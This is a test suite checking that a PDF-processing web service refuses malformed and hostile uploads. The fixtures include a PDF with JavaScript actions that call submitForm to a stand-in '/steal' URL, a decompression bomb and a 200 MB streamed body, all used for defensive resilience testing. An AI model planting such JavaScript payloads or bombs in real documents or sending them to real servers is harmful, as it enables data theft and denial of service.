// A corpus of malformed and hostile uploads sent to POST /api/jobs on the
// running production server, as a browser would send them: each is either
// processed correctly or refused with its own clear 4xx message, and a
// refused upload stores nothing and reserves nothing. A 200 MB body is
// refused with 413 while it streams, without the server holding it in memory.
import http from "node:http";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";
import { db, disconnectDb } from "@/lib/db/prisma";
import { env } from "@/lib/env";
import { isJobEnded } from "@/lib/jobs/job-states";
import {
  loadCorpusText,
  makeEmptyPdf,
  makeEncryptedPdf,
  makeImageOnlyPdf,
  makeNovelPdf,
  makeTruncatedPdf,
  makeZipFile,
} from "@/tests/fixtures/make-novel-pdf";
import { makeDecompressionBombPdf } from "@/tests/fixtures/make-bad-files";
import { pdfForm, signUpAndSignIn, testBaseUrl, type HttpClient } from "@/tests/support/http-client";
import { pidListeningOn, readMemory } from "@/bench/support/proc";

interface ErrorBody {
  error: { code: string; message: string };
}

let novel: Uint8Array;

beforeAll(async () => {
  novel = await makeNovelPdf({
    text: loadCorpusText("bovary", { words: 3000, startAt: "Nous étions à l'Étude" }),
    pages: 4,
    title: "Madame Bovary",
  });
});

afterAll(async () => {
  await disconnectDb();
});

/** The book with a JavaScript action run on opening, and one more in the document's name tree. */
async function withJavaScript(pdf: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.load(pdf);
  const script = "app.alert('Ce PDF exécute du JavaScript'); this.submitForm('http://127.0.0.1:9/steal');";
  const action = doc.context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(script) });
  doc.catalog.set(PDFName.of("OpenAction"), action);
  const names = doc.context.obj({ JavaScript: doc.context.obj({ Names: [PDFString.of("steal"), action] }) });
  doc.catalog.set(PDFName.of("Names"), names);
  // Without object streams, so the actions sit in the file as plain text, as in most such files.
  return doc.save({ useObjectStreams: false });
}

/** A real PDF with more pages than MAX_PAGES allows, a line of text on each. */
async function makeManyPagesPdf(pages: number): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.TimesRoman);
  for (let index = 1; index <= pages; index++) {
    doc.addPage([300, 400]).drawText(`Page ${index}. Il était une fois un très long livre.`, { x: 30, y: 200, size: 10, font });
  }
  return doc.save();
}

async function upload(client: HttpClient, bytes: Uint8Array, fileName: string, engine = "local") {
  return client.json<ErrorBody & { job?: { id: string } }>("/api/jobs", {
    method: "POST",
    body: pdfForm(bytes, { engine, maxWords: "8" }, fileName),
  });
}

/** The connection closed before the client read the server's answer (see streamHugeUploadOnce). */
class AnswerLost extends Error {}

/** The upload, sent again (up to three times) when the client lost the server's answer in the race described below. */
async function streamHugeUpload(options: { cookie: string; totalBytes: number; declareLength: boolean; serverPid: number | undefined }) {
  for (let attempt = 1; ; attempt += 1) {
    try {
      return await streamHugeUploadOnce(options);
    } catch (error) {
      if (!(error instanceof AnswerLost) || attempt === 3) throw error;
      console.warn(`upload ${attempt}: ${error.message}; sending it again`);
    }
  }
}

/**
 * Streams up to `totalBytes` of multipart body, as a browser does, until the
 * server has answered and the connection is closed; samples the server's RSS
 * meanwhile. `sentInAll` is what the client could send before the server
 * stopped it: the whole body if the server drained it after its answer.
 * With `declareLength`, only the headers are sent until the answer comes.
 */
function streamHugeUploadOnce(options: { cookie: string; totalBytes: number; declareLength: boolean; serverPid: number | undefined }) {
  const boundary = "----resilience-huge-upload";
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="enorme.pdf"\r\n` +
      "Content-Type: application/pdf\r\n\r\n%PDF-1.7\n",
  );
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  const headers: Record<string, string | number> = {
    cookie: options.cookie,
    "content-type": `multipart/form-data; boundary=${boundary}`,
  };
  if (options.declareLength) headers["content-length"] = options.totalBytes;
  else headers["transfer-encoding"] = "chunked";

  let sent = 0;
  let peakRssKb = 0;
  const sampler = setInterval(() => {
    const memory = options.serverPid ? readMemory(options.serverPid) : undefined;
    if (memory) peakRssKb = Math.max(peakRssKb, memory.rssKb);
  }, 25);
  const request = http.request(new URL("/api/jobs", testBaseUrl()), { method: "POST", headers, agent: false });
  const answered = new Promise<{ status: number; body: string }>((resolve, reject) => {
    request.on("response", (response) => {
      let body = "";
      response.setEncoding("utf8");
      response.on("data", (chunk: string) => (body += chunk));
      response.on("end", () => resolve({ status: response.statusCode ?? 0, body }));
    });
    // The server answers and closes before the whole body is written.
    request.on("error", (error: NodeJS.ErrnoException) => {
      if (error.code !== "EPIPE" && error.code !== "ECONNRESET") reject(error);
    });
    // Node's server closes the connection right after its 413 ("connection: close"), while this
    // client is still writing: now and then (2 uploads in 300 on a loaded machine) the client's
    // next write fails before it has read the answer waiting on its socket, and drops it. That is
    // the transport losing an answer the server sent, not the server failing to send it: say so at
    // once rather than waiting for an answer that will not come.
    request.on("close", () => setImmediate(() => reject(new AnswerLost(`the connection closed after ${sent} bytes, the answer unread`))));
  });
  const closed = new Promise<number>((resolve) => request.on("close", () => resolve(sent)));

  // Declared up front, the body waits for the answer: a server that needs
  // to read any of it before refusing leaves this request hanging.
  if (options.declareLength) {
    request.flushHeaders();
    void answered.then(() => request.destroy(), () => request.destroy());
    return Promise.all([answered, closed]).then(([answer, sentInAll]) => ({ ...answer, sentInAll, peakRssKb })).finally(() => clearInterval(sampler));
  }
  const block = Buffer.alloc(1024 * 1024, 0x20);
  const pump = () => {
    if (sent === 0) {
      request.write(head);
      sent += head.length;
    }
    while (!request.destroyed) {
      const left = options.totalBytes - sent - tail.length;
      if (left <= 0) return void request.end(tail);
      const piece = left >= block.length ? block : block.subarray(0, left);
      sent += piece.length;
      if (!request.write(piece)) return void request.once("drain", pump);
    }
  };
  pump();
  return Promise.all([answered, closed]).then(([answer, sentInAll]) => ({ ...answer, sentInAll, peakRssKb })).finally(() => clearInterval(sampler));
}

describe("malformed and hostile uploads over HTTP", () => {
  it("refuses each broken file with its own clear 4xx, storing and reserving nothing", async () => {
    const user = await signUpAndSignIn();
    const credits = await user.json<{ balance: number }>("/api/credits");
    const before = credits.body.balance;

    const cases: { name: string; bytes: Uint8Array; fileName: string; status: number; code: string; message: RegExp }[] = [
      { name: "truncated PDF", bytes: makeTruncatedPdf(novel), fileName: "coupé.pdf", status: 422, code: "pdf_invalid", message: /incomplete|cut off/i },
      { name: "zero pages", bytes: makeEmptyPdf(), fileName: "vide.pdf", status: 422, code: "pdf_invalid", message: /no pages/i },
      { name: "1,500 pages", bytes: await makeManyPagesPdf(1500), fileName: "énorme.pdf", status: 422, code: "pdf_too_many_pages", message: new RegExp(`1,500 pages.*${env().MAX_PAGES.toLocaleString("en-US")}`) },
      { name: "ZIP renamed .pdf", bytes: makeZipFile(), fileName: "roman.pdf", status: 415, code: "unsupported_media_type", message: /ZIP archive/ },
      { name: "password-protected", bytes: makeEncryptedPdf({ userPassword: "secret" }), fileName: "secret.pdf", status: 422, code: "pdf_encrypted", message: /password/i },
      { name: "image-only (scan)", bytes: await makeImageOnlyPdf(2), fileName: "scan.pdf", status: 422, code: "pdf_no_text", message: /no text layer/i },
      { name: "empty file", bytes: new Uint8Array(0), fileName: "rien.pdf", status: 415, code: "unsupported_media_type", message: /empty/i },
      { name: "PDF header then garbage", bytes: new TextEncoder().encode(`%PDF-1.7\n${"\u0000garbage ".repeat(500)}\n%%EOF\n`), fileName: "bruit.pdf", status: 422, code: "pdf_invalid", message: /damaged|cannot be read/i },
    ];
    const messages = new Set<string>();
    for (const entry of cases) {
      const response = await upload(user, entry.bytes, entry.fileName);
      expect(response.status, entry.name).toBe(entry.status);
      expect(response.body.error.code, entry.name).toBe(entry.code);
      expect(response.body.error.message, entry.name).toMatch(entry.message);
      expect(response.body.error.message.length, entry.name).toBeGreaterThan(20);
      messages.add(response.body.error.message);
    }
    // Each refusal says what is wrong with that file, not one generic sentence.
    expect(messages.size).toBe(cases.length);

    const after = await user.json<{ balance: number }>("/api/credits");
    expect(after.body.balance).toBe(before);
    expect(await db().job.count({ where: { userId: user.userId! } })).toBe(0);
    expect(await db().document.count({ where: { userId: user.userId! } })).toBe(0);
    const reserves = await db().creditLedger.count({ where: { userId: user.userId!, kind: "reserve" } });
    expect(reserves).toBe(0);
  });

  it("processes a PDF carrying JavaScript actions as text, without running them", async () => {
    const user = await signUpAndSignIn();
    const hostile = await withJavaScript(novel);
    expect(Buffer.from(hostile).toString("latin1")).toContain("/JavaScript");

    const response = await upload(user, hostile, "javascript.pdf");
    expect(response.status).toBe(202);
    const jobId = response.body.job!.id;
    const deadline = Date.now() + 90_000;
    let job = await db().job.findUniqueOrThrow({ where: { id: jobId } });
    while (!isJobEnded(job.status) && Date.now() < deadline) {
      await new Promise((resolve) => setTimeout(resolve, 250));
      job = await db().job.findUniqueOrThrow({ where: { id: jobId } });
    }
    expect(job.status).toBe("succeeded");
    expect(job.creditsCharged).toBe(job.pageCount);
    const sentences = await db().sentence.findMany({
      where: { jobId },
      orderBy: { position: "asc" },
      include: { original: { select: { text: true } } },
    });
    expect(sentences.length).toBeGreaterThan(10);
    expect(sentences[0]!.original.text).toMatch(/^Nous étions à l'Étude/);
    expect(sentences.some((sentence) => /app\.alert|submitForm/.test(sentence.original.text))).toBe(false);
  });

  it("refuses a 200 MB body with 413 while it streams, without buffering it", async () => {
    const user = await signUpAndSignIn();
    const limitBytes = env().MAX_UPLOAD_MB * 1024 * 1024;
    const totalBytes = 200 * 1024 * 1024;
    const serverPid = pidListeningOn(Number(new URL(testBaseUrl()).port));
    const rssBefore = serverPid ? readMemory(serverPid)?.rssKb : undefined;

    // Chunked, no Content-Length: the server must count and stop.
    const streamed = await streamHugeUpload({ cookie: user.cookieHeader(), totalBytes, declareLength: false, serverPid });
    expect(streamed.status).toBe(413);
    expect((JSON.parse(streamed.body) as ErrorBody).error.code).toBe("payload_too_large");
    expect((JSON.parse(streamed.body) as ErrorBody).error.message).toMatch(new RegExp(`${env().MAX_UPLOAD_MB} MB limit`));
    // The server stopped the upload instead of draining the 200 MB.
    expect(streamed.sentInAll).toBeGreaterThan(limitBytes);
    expect(streamed.sentInAll).toBeLessThan(totalBytes * 0.75);

    // Declared up front: refused from the header alone, before any of the body.
    const declared = await streamHugeUpload({ cookie: user.cookieHeader(), totalBytes, declareLength: true, serverPid });
    expect(declared.status).toBe(413);
    expect((JSON.parse(declared.body) as ErrorBody).error.code).toBe("payload_too_large");
    expect(declared.sentInAll).toBe(0);

    // The server never held anything like the 200 MB: its RSS grew by less than the body.
    if (serverPid && rssBefore) {
      const grewKb = Math.max(streamed.peakRssKb, declared.peakRssKb) - rssBefore;
      console.info(`web server ${serverPid}: RSS ${Math.round(rssBefore / 1024)} MB before, peak +${Math.round(grewKb / 1024)} MB during the 200 MB uploads; upload stopped after ${Math.round(streamed.sentInAll / 2 ** 20)} MB`);
      expect(grewKb).toBeLessThan(totalBytes / 1024);
    }
    expect(await db().job.count({ where: { userId: user.userId! } })).toBe(0);
    const balance = await user.json<{ balance: number }>("/api/credits");
    expect(balance.body.balance).toBe(env().MONTHLY_CREDITS);
  });

  it("refuses a decompression bomb in the inspection thread without the web process growing with it", async () => {
    const user = await signUpAndSignIn();
    // 2 MB on the wire, 1 GB of page content once inflated.
    const bomb = await makeDecompressionBombPdf(1024);
    expect(bomb.length).toBeLessThan(8 * 1024 * 1024);
    const serverPid = pidListeningOn(Number(new URL(testBaseUrl()).port));
    const rssBefore = serverPid ? readMemory(serverPid)?.rssKb : undefined;
    let peakKb = rssBefore ?? 0;
    const sampler = setInterval(() => {
      const rss = serverPid ? readMemory(serverPid)?.rssKb : undefined;
      if (rss) peakKb = Math.max(peakKb, rss);
    }, 20);

    for (const path of ["/api/jobs/estimate", "/api/jobs"]) {
      const started = Date.now();
      const response = await user.json<ErrorBody & { error: { details?: unknown } }>(path, {
        method: "POST",
        body: pdfForm(bomb, { engine: "local" }, "bombe.pdf"),
      });
      expect(response.status, path).toBe(422);
      expect(response.body.error.code, path).toBe("pdf_invalid");
      expect(response.body.error.message, path).toMatch(/unpacks to more than \d+ MB/);
      expect(Date.now() - started, path).toBeLessThan(15_000);
    }
    clearInterval(sampler);

    // The bound: the inspection thread's heap cap (PDF_PARSE_MEMORY_MB) plus
    // what the guard lets through (PDF_MAX_INFLATED_MB); here it stops far
    // below both, since the guard counts and drops the inflated bytes.
    if (serverPid && rssBefore) {
      const grewMb = Math.round((peakKb - rssBefore) / 1024);
      console.info(`web server ${serverPid}: RSS peak +${grewMb} MB while refusing a 1 GB decompression bomb`);
      expect(grewMb).toBeLessThan(300);
    }
    expect(await db().job.count({ where: { userId: user.userId! } })).toBe(0);
  });
});
